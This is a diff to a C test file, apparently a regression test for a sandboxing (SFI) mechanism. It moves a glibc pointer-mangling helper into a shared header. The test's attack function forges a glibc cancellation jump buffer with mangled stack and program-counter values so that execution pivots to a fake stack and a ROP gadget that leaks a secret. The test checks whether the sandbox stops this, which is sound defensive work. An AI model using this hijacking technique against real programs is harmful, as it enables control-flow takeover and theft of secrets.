@@ -15,6 +15,7 @@
 // SFI-NEXT: nothing stolen
 // STOLEN: hijacked: stole 'vault-secret-42'
 #include "Inputs/vault.h"
+#include "Inputs/pointer-guard.h"
 
 #include <elf.h>
 #include <link.h>
@@ -23,12 +24,6 @@
 #include <unistd.h>
 
 enum { JB_RBX, JB_RBP, JB_R12, JB_R13, JB_R14, JB_R15, JB_RSP, JB_PC };
-
-static uintptr_t mangle(uintptr_t v) {
-  uintptr_t guard = *(const uintptr_t *)((const char *)pthread_self() + 0x30);
-  v ^= guard;
-  return (v << 0x11) | (v >> (64 - 0x11));
-}
 
 static char stash[64];
 static uintptr_t fake_stack[64] __attribute__((aligned(16)));
@@ -78,9 +73,9 @@ long attack(const char *mode, void *aux, const volatile char *secret, int key,
   s[4] = ret;
   s[5] = (uintptr_t)report;
   long *jb = forged.__cancel_jmp_buf[0].__cancel_jmp_buf;
-  jb[JB_RSP] = (long)mangle((uintptr_t)s);
-  jb[JB_RBP] = (long)mangle(0);
-  jb[JB_PC] = (long)mangle(pop_rdi);
+  jb[JB_RSP] = (long)glibc_mangle((uintptr_t)s);
+  jb[JB_RBP] = (long)glibc_mangle(0);
+  jb[JB_PC] = (long)glibc_mangle(pop_rdi);
   forged.__cancel_jmp_buf[0].__mask_was_saved = 0;
   outer.__pad[0] = &forged; /* priv.data.prev */
   fflush(stdout);
